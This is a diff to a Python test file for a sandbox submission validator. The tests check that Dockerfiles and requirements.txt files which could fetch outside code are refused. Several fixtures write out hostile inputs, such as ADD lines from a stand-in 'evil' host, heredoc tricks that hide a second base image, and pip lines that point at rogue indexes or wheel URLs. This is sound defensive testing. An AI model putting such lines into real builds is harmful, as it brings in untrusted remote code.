@@ -365,12 +365,8 @@ def test_missing_required_file(tmp_path, missing):
 
 @pytest.mark.parametrize(("dockerfile", "value"), [
     ("FROM ubuntu:22.04\n", "ubuntu:22.04"),
-    ("FROM --platform=linux/amd64 python:3.12 AS build\nFROM build\n", "python:3.12"),
-    ("ARG BASE=ubuntu:22.04\nFROM ${BASE}\n", "ubuntu:22.04"),
-    ("ARG BASE\nFROM $BASE\n", "$BASE"),
     ("FROM scratch\n", "scratch"),
-    ("FROM arena/python-cpu:1\nCOPY --from=alpine:3 /bin/sh /sh\n", "alpine:3"),
-    ("FROM arena/python-cpu:1\nRUN --mount=type=bind,from=busybox,target=/b ls /b\n", "busybox"),
+    ("FROM arena/python-cpu:1@sha256:0000\n", "arena/python-cpu:1@sha256:0000"),
 ])
 def test_from_outside_the_allowlist(tmp_path, dockerfile, value):
     p = only(rejection(make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": dockerfile})),
@@ -379,24 +375,47 @@ def test_from_outside_the_allowlist(tmp_path, dockerfile, value):
     assert_names_rule_and_value(p)
 
 
+# Everything the classic builder and the validator could read differently is refused (sandbox/dockerfile.py).
+@pytest.mark.parametrize(("dockerfile", "rule", "value"), [
+    ("FROM arena/python-cpu:1 AS build\nFROM build\n", "dockerfile.multi_stage", "build"),
+    ("FROM arena/python-cpu:1\nRUN pip wheel .\nFROM ubuntu:22.04\n", "dockerfile.multi_stage", "ubuntu:22.04"),
+    ("ARG BASE=arena/python-cpu:1\nFROM ${BASE}\n", "dockerfile.from_arg", "${BASE}"),
+    ("ARG TAG=1\nFROM arena/python-cpu:${TAG}\n", "dockerfile.from_arg", "arena/python-cpu:${TAG}"),
+    ("FROM --platform=linux/amd64 arena/python-cpu:1\n", "dockerfile.flag", "--platform=linux/amd64"),
+    ("FROM arena/python-cpu:1\nCOPY --from=alpine:3 /bin/sh /sh\n", "dockerfile.copy_from", "alpine:3"),
+    ("FROM arena/python-cpu:1\nCOPY --from=0 /bin/sh /sh\n", "dockerfile.copy_from", "0"),
+    ("FROM arena/python-cpu:1\nRUN --mount=type=bind,from=busybox,target=/b ls /b\n", "dockerfile.flag",
+     "--mount=type=bind,from=busybox,target=/b"),
+    ("# syntax=docker/dockerfile:1\nFROM arena/python-cpu:1\n", "dockerfile.directive",
+     "# syntax=docker/dockerfile:1"),
+    ("FROM arena/python-cpu:1\n# syntax=evil/frontend\n", "dockerfile.directive", "# syntax=evil/frontend"),
+    # the classic builder runs these lines; a heredoc-aware reader would skip them as a body
+    ("FROM arena/python-cpu:1\nRUN <<EOF\nFROM ubuntu:22.04\nADD https://evil/x /x\nEOF\n", "dockerfile.heredoc",
+     "<<EOF"),
+    ("FROM arena/python-cpu:1\nRUN echo '<<WORD'\nADD http://evil/x /x\nWORD\n", "dockerfile.heredoc", "<<WORD'"),
+    ("FROM arena/python-cpu:1\nONBUILD RUN echo hi\n", "dockerfile.instruction", "ONBUILD"),
+    ("FROM arena/python-cpu:1\nFETCH http://evil/x\n", "dockerfile.instruction", "FETCH"),
+    ("FROM arena/python-cpu:1\nRUN echo hi\x0bFROM ubuntu\n", "dockerfile.characters", "U+000B"),
+    ("RUN echo hi\nFROM arena/python-cpu:1\n", "dockerfile.invalid", "RUN"),
+])
+def test_constructs_read_differently_are_refused(tmp_path, dockerfile, rule, value):
+    p = only(rejection(make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": dockerfile})), rule)
+    assert p.value == value
+    assert_names_rule_and_value(p)
+    assert "Dockerfile line " in p.message
+
+
 @pytest.mark.parametrize("dockerfile", [
-    "FROM arena/torch-cuda:1 AS build\nRUN pip wheel .\nFROM build AS test\nFROM arena/python-cpu:1\n"
-    "COPY --from=build /w /w\nCOPY --from=0 /x /x\n",
-    "# syntax=docker/dockerfile:1\nARG BASE=arena/python-cpu:1\nFROM --platform=$BUILDPLATFORM ${BASE} as app\n",
-    "ARG TAG=1\nFROM arena/python-cpu:${TAG}\n",
-    "ARG BASE\nFROM ${BASE:-arena/python-cpu:1}\n",
-    "from arena/python-cpu:1\nrun echo hi \\\n  # a comment inside a continuation\n  && echo there\n",
-    "FROM arena/python-cpu:1\nRUN <<EOF\nFROM ubuntu:22.04\nADD https://evil/x /x\nEOF\nADD local.tar /app/\n",
+    "FROM arena/torch-cuda:1 AS app\nRUN pip --version\n",
+    "ARG UNUSED=1\nFROM arena/python-cpu:1\n",
+    "from arena/python-cpu:1\nrun echo hi \\\n  # a comment inside a continuation\n\n  && echo there\n",
+    "# escape=`\nFROM arena/python-cpu:1\nRUN echo a `\n  b\n",
+    "\ufeffFROM arena/python-cpu:1\r\nCOPY --chown=10001:10001 . /app\r\nADD local.tar /app/\r\n",
+    "FROM \\\n arena/python-cpu:1\nADD [\"data.tgz\", \"/app/\"]\n",
 ])
 def test_allowed_dockerfiles(tmp_path, dockerfile):
     result = validate_zip(make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": dockerfile}))
-    assert set(result.base_images) <= {"arena/python-cpu:1", "arena/torch-cuda:1"}
-
-
-def test_base_images_resolve_stage_references(tmp_path):
-    dockerfile = "FROM arena/torch-cuda:1 AS build\nFROM build\n"
-    result = validate_zip(make_zip(tmp_path / "d.zip", {**GOOD_FILES, "Dockerfile": dockerfile}))
-    assert result.base_images == ("arena/torch-cuda:1", "arena/torch-cuda:1")
+    assert len(result.base_images) == 1 and result.base_images[0] in {"arena/python-cpu:1", "arena/torch-cuda:1"}
 
 
 @pytest.mark.parametrize(("line", "value"), [
@@ -406,6 +425,7 @@ def test_base_images_resolve_stage_references(tmp_path):
     ('ADD ["https://evil/x", "/x"]', "https://evil/x"),
     ("ARG U=https://evil/x\nADD ${U} /x", "${U}"),
     ("ADD local.txt \\\n    https://evil/y /dst/", "https://evil/y"),
+    ("ADD http:\\//evil/z /z", "http:\\//evil/z"),
 ])
 def test_add_of_a_url(tmp_path, line, value):
     dockerfile = f"FROM arena/python-cpu:1\n{line}\n"
@@ -413,6 +433,27 @@ def test_add_of_a_url(tmp_path, line, value):
              "dockerfile.add_url")
     assert p.value == value
     assert_names_rule_and_value(p)
+
+
+@pytest.mark.parametrize(("requirements", "value"), [
+    ("numpy==1.26.4\n-e git+https://evil/x.git#egg=x\n", "-e git+https://evil/x.git#egg=x"),
+    ("--index-url https://evil/simple\n", "--index-url https://evil/simple"),
+    ("evil @ https://evil/evil-1.0-py3-none-any.whl\n", "evil @ https://evil/evil-1.0-py3-none-any.whl"),
+    ("./local-package\n", "./local-package"),
+    ("-r other.txt\n", "-r other.txt"),
+    ("numpy==1.26.4; python_version > '3'\n", "numpy==1.26.4; python_version > '3'"),
+    ("numpy==1.26.4 --hash=sha256:abc\n", "numpy==1.26.4 --hash=sha256:abc"),
+])
+def test_requirements_that_are_not_plain_names(tmp_path, requirements, value):
+    p = only(rejection(make_zip(tmp_path / "r.zip", {**GOOD_FILES, "requirements.txt": requirements})),
+             "requirements.line")
+    assert p.value == value
+    assert_names_rule_and_value(p)
+
+
+def test_plain_requirements_pass(tmp_path):
+    requirements = "# pinned\nnumpy==1.26.4  # a comment\ntorch==2.13.0+cpu\nrich[jupyter]>=13,<14\nsix\n"
+    validate_zip(make_zip(tmp_path / "r.zip", {**GOOD_FILES, "requirements.txt": requirements}))
 
 
 def test_dockerfile_without_from(tmp_path):
